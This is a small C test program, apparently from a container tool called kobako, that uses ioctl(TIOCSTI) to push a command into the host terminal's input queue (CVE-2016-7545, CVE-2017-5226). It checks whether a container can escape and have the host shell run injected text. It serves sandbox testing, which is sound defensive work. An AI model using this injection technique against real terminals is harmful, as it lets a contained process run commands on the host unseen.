/* tiocsti.c - type into the terminal we were given (CVE-2016-7545, -2017-5226).
 *
 *     tiocsti COMMAND
 *
 * ioctl(TIOCSTI) pushes one byte into a terminal's input queue as if it had
 * been typed. Run in a container that got the host's terminal, it queues
 * COMMAND and a newline: the host's shell reads and runs it as soon as the
 * container exits. Tries fd 0, 1 and 2; prints what the kernel answered for
 * each. Exits 0 if the command was pushed, 1 if not. A test program of
 * kobako, built statically into the default rootfs.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

static int push(int fd, const char *text)
{
	for (const char *p = text; *p; p++)
		if (ioctl(fd, TIOCSTI, p) < 0)
			return -1;
	return ioctl(fd, TIOCSTI, "\n");
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: tiocsti COMMAND\n");
		return 2;
	}
	for (int fd = 0; fd <= 2; fd++) {
		if (push(fd, argv[1]) == 0) {
			fprintf(stderr, "tiocsti: fd %d: pushed\n", fd);
			return 0;
		}
		fprintf(stderr, "tiocsti: fd %d: %s\n", fd, strerror(errno));
	}
	return 1;
}
